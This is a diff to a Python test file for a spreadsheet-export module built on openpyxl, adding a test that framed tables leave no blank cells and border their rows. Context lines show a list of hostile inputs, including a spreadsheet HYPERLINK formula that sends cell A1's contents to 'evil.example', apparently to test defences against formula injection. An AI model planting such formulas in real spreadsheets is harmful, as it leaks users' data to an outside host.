@@ -15,6 +15,7 @@ from openpyxl import Workbook, load_workbook
 from openpyxl.styles import Alignment, NamedStyle
 
 from kinerja.core import spreadsheets
+from kinerja.core.tests.workbooks import framed_ranges
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Klik")',
@@ -214,3 +215,20 @@ def test_a_date_in_a_row_stores_the_serial_number_a_date_put_alone_stores(day):
         xml = archive.read("xl/worksheets/sheet1.xml").decode()
     stored = re.findall(r'<c r="A[12]"[^>]*><v>([^<]+)</v>', xml)
     assert len(stored) == 2 and stored[0] == stored[1]
+
+
+def test_a_framed_table_writes_no_blank_cell_and_borders_every_cell_of_its_rows():
+    def write(book, sheet, framed):
+        book.put_row(sheet, 1, ["Ani", None, ""], [framed] * 3, blanks=False)
+        book.put_row(sheet, 2, ["Budi", "Baik", None], [framed] * 3, blanks=False)
+        book.frame(sheet, 1, 2, 2, {"border": 1})
+        book.frame(sheet, 4, 3, 2, {"border": 1})  # no rows: no frame
+
+    read = _large(write)
+    rows = read.iter_rows(min_row=2, max_row=3, max_col=3)
+    assert [[c.value for c in row] for row in rows] == [
+        ["Ani", None, None],
+        ["Budi", "Baik", None],
+    ]
+    assert read["B2"].border.left.style is None  # not written: the frame borders it
+    assert framed_ranges(read) == ["A2:C3"]
